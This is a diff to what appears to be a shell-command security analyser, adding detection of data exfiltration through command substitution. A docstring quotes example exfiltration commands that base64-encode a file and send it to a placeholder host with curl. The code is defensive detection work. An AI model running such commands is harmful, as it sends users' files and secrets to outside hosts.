@@ -574,7 +574,7 @@ class _Rule:
             detail = f"{cmd.program} runs code it reads from {source}"
             return self._paths_then(cmd, where, obj, detail, matched)
         if self.effects or self.classes:
-            found = self._effect(cmd, where)
+            found = self._effect(cmd, where, parsed)
             if found is None:
                 return None
             obj, detail = found
@@ -648,9 +648,11 @@ class _Rule:
             return reason
         return None
 
-    def _effect(self, cmd: SimpleCommand, where: _Where) -> tuple[str, str] | None:
+    def _effect(
+        self, cmd: SimpleCommand, where: _Where, parsed: ParsedShell
+    ) -> tuple[str, str] | None:
         """The first path effect of ``cmd`` that the rule's effect conditions select."""
-        if self.sends and not _sends(cmd):
+        if self.sends and not (_sends(cmd) or _output_sent(cmd, parsed)):
             return None
         for effect in _effects_of(cmd, where.home):
             if self.effects and effect.mode not in self.effects:
@@ -806,6 +808,18 @@ def _effects_of(cmd: SimpleCommand, home: str | None) -> list[PathEffect]:
 
 # Copiers that send only when an operand is on another machine (``host:path``).
 _REMOTE_COPIERS: Final = frozenset({"scp", "rsync", "sftp", "rclone"})
+
+
+def _output_sent(cmd: SimpleCommand, parsed: ParsedShell) -> bool:
+    """Whether ``cmd`` runs inside a command substitution whose output a sender puts on the
+    wire: ``curl "http://h/?d=$(cat f | base64)"``, or through a variable, ``d=$(cat f);
+    curl "http://h/?d=$d"`` (the sender's words keep the substitution, its value unknown)."""
+    if not cmd.via or cmd.via[-1] not in ("$(…)", "`…`"):
+        return False
+    return any(
+        c.program in SENDERS and any("$(" in w or "`" in w for w in c.argv[1:])
+        for c in parsed.commands
+    )
 
 
 def _sends(cmd: SimpleCommand) -> bool:
